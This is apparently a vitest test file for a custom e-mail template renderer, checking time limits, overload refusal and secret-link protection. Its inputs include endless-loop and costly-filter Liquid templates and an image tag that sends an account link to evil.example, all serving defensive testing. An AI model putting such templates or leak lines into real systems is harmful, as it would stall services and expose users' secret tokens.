import { monitorEventLoopDelay } from 'node:perf_hooks'
import { expect, test } from 'vitest'
import { queueEmail } from '#app/features/email/commands/queue-email.ts'
import { renderMessage } from '#app/features/email/reads/render-message.ts'
import { emailTemplates, outbox } from '#app/features/email/tables.ts'
import { inTransaction } from '#app/platform/db/database.ts'
import { aPerson } from '#tests/kit/builders.ts'
import { TEST_RENDERING, TEST_SECRETS, TEST_SITE } from '#tests/kit/mail.ts'
import { aDatabase } from '#tests/kit/site.ts'
import { sealLinkToken } from '../link-tokens.ts'
import { tryRenderingTemplate } from './custom-templates.ts'
import type { TemplateRenderRequest } from './fill-template.ts'

const endless = '{% assign r = (1..900000) %}{% for i in r %}{% for j in r %}{% endfor %}{% endfor %}'
/** A single filter that the engine's limits cannot interrupt. */
const singleFilter = `{% assign y = "${'ab'.repeat(40_000)}" | split: "" | join: "," | replace: "a", "b,b,b" | split: "" | sort_natural | join: "" | split: "" | sort_natural | uniq | join: "" %}{{ y }}`

const NOW = new Date('2026-11-20T02:00:00.000Z')
const { db } = await aDatabase()
function filling(parts: Partial<TemplateRenderRequest['template']>): TemplateRenderRequest {
  const template = { subject: 'Hello', html: 'Hello', text: 'Hello', ...parts }
  return { template, variables: {}, secretLinks: {}, mayMiss: true, checksNames: false }
}

async function longestDelayInMs(work: () => Promise<unknown>): Promise<number> {
  const delays = monitorEventLoopDelay({ resolution: 5 })
  delays.enable()
  await work()
  delays.disable()
  return delays.max / 1e6
}

test.for([
  ['endless loops in every part', { subject: endless, html: endless, text: endless }],
  ['one long-running filter', { html: singleFilter }],
] as const)(
  'A custom template with %s is stopped within two seconds without blocking the event loop',
  async ([, parts]) => {
    await tryRenderingTemplate(filling({}))
    const startedAt = performance.now()
    const delay = await longestDelayInMs(() => tryRenderingTemplate(filling(parts)))
    expect(performance.now() - startedAt).toBeLessThan(1900)
    expect(delay).toBeLessThan(250)
  },
)

test('An endless custom template is refused at its field, and the next one still renders', async () => {
  const filled = await tryRenderingTemplate(filling({ html: endless }))
  expect(filled).toMatchObject({ mistakes: [{ part: 'html', text: expect.stringContaining('too long') }] })
  expect(await tryRenderingTemplate(filling({}))).toMatchObject({ message: { html: 'Hello' } })
})

test('Excess custom template previews get 503, without delaying e-mails being sent', async () => {
  const { id } = await aPerson(db)
  await db.insert(emailTemplates).values({
    templateName: 'Ours',
    templateType: 'account_link',
    subjectTemplate: 'Yours',
    htmlTemplate: '<a href="{{ accountLink }}">Open</a>',
    textTemplate: 'Open {{ accountLink }}',
  })
  const data = { reason: 'verify', token: sealLinkToken(TEST_SECRETS, 'abc'), validUntil: NOW } as const
  const to = { personId: id, email: 'ana@example.ph', name: null }
  await inTransaction(db, (tx) => queueEmail(tx, { event: 'account.link', to, data }, NOW))
  const [message] = await db.select().from(outbox)
  if (message === undefined) throw new Error('nothing announced')

  const tried = Array.from({ length: 12 }, () =>
    tryRenderingTemplate(filling({ html: endless })).catch((error) => error),
  )
  const context = { db, ...TEST_RENDERING }
  const startedAt = performance.now()
  const { subject, html } = await renderMessage(context, message)
  expect([subject, html]).toEqual(['Yours', `<a href="${TEST_SITE.appUrl}/account-link#abc">Open</a>`])
  expect(performance.now() - startedAt).toBeLessThan(3000)
  expect(await tried.at(-1)).toMatchObject({ kind: 'unavailable' })
})

test('A stored template that leaks a secret link is replaced by the shipped template', async () => {
  await db.update(emailTemplates).set({ htmlTemplate: '<img src="https://evil.example/?{{ accountLink }}">' })
  const [message] = await db.select().from(outbox)
  if (message === undefined) throw new Error('nothing announced')
  const context = { db, ...TEST_RENDERING }
  const { subject, html } = await renderMessage(context, message)
  expect(subject).toBe('Please confirm your e-mail address')
  expect(html).not.toContain('evil.example')
})
